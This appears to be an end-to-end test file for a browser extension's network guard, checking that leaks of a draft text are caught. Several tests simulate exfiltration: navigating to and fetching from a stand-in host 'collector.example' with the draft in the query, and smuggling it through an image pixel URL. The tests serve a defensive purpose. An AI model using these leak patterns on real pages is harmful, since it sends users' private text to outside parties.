/** The guard that every end-to-end test runs under (extension.ts): what it forbids, it sees. */
import { expect, test } from './extension.ts';

test('a practice page asks for its own parts only', async ({ open, takeOffences }) => {
  await open('x-inline');
  expect(await takeOffences()).toEqual([]);
});

test('a page of a foreign host is seen, on the page and on the wire', async ({ open, takeOffences }) => {
  const page = await open('x-inline');
  await page.goto('https://collector.example/?draft=rahasia');
  const offences: string[] = [];
  // The tab's icon is asked for last.
  await expect
    .poll(async () => {
      offences.push(...(await takeOffences()));
      return offences;
    })
    .toContain('left the browser: https://collector.example/favicon.ico');
  expect(offences).toContain('to a foreign host: GET document https://collector.example/?draft=rahasia');
  expect(offences).toContain('left the browser: https://collector.example/?draft=rahasia');
});

test('a fetch to the site itself is seen', async ({ open, takeOffences }) => {
  const page = await open('x-inline');
  await page.evaluate(() => fetch('/i/api/collect?draft=rahasia'));
  expect(await takeOffences()).toEqual([
    'not how a page loads its parts: GET fetch https://x.com/i/api/collect?draft=rahasia',
  ]);
});

test('a picture with a text in its address is seen', async ({ open, takeOffences }) => {
  const page = await open('x-inline');
  await page.evaluate(() => {
    const picture = new Image();
    picture.src = '/pixel.png?draft=rahasia';
    return picture.decode().catch(() => null);
  });
  expect(await takeOffences()).toEqual([
    'to an unknown address: GET image https://x.com/pixel.png?draft=rahasia',
  ]);
});

test("a request of the extension's own worker is seen", async ({ context, takeOffences }) => {
  const worker = context.serviceWorkers()[0] ?? (await context.waitForEvent('serviceworker'));
  // The extension's own policy refuses it before it leaves; that is the first wall, and this the second.
  const refused = await worker.evaluate(() =>
    fetch('https://collector.example/').then(
      () => false,
      () => true,
    ),
  );
  expect(refused).toBe(true);
  await takeOffences();
});
